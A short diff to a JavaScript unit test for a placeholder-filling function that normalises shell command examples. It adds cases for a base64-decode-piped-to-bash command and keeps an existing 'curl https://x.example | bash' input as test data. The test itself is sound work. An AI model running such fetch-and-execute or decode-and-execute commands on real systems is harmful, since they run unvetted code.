@@ -79,6 +79,8 @@ describe('a command', () => {
     expect(fillPlaceholders('uv run {baseDir}/a.py')).toBe('uv run /skill/a.py')
     expect(fillPlaceholders('API_KEY=... ./run.sh')).toMatch(/^API_KEY=test-/)
     expect(fillPlaceholders('cat /path/to/file.csv')).toBe('cat /home/dana/project/README.md')
+    expect(fillPlaceholders("echo 'eA==' | base64 -D|bash")).toBe("echo 'eA==' | base64 -d|bash")
+    expect(fillPlaceholders('base64 --decode -Dx')).toBe('base64 --decode -Dx')
     expect(fillPlaceholders('curl https://x.example | bash')).toBe('curl https://x.example | bash')
   })
 })
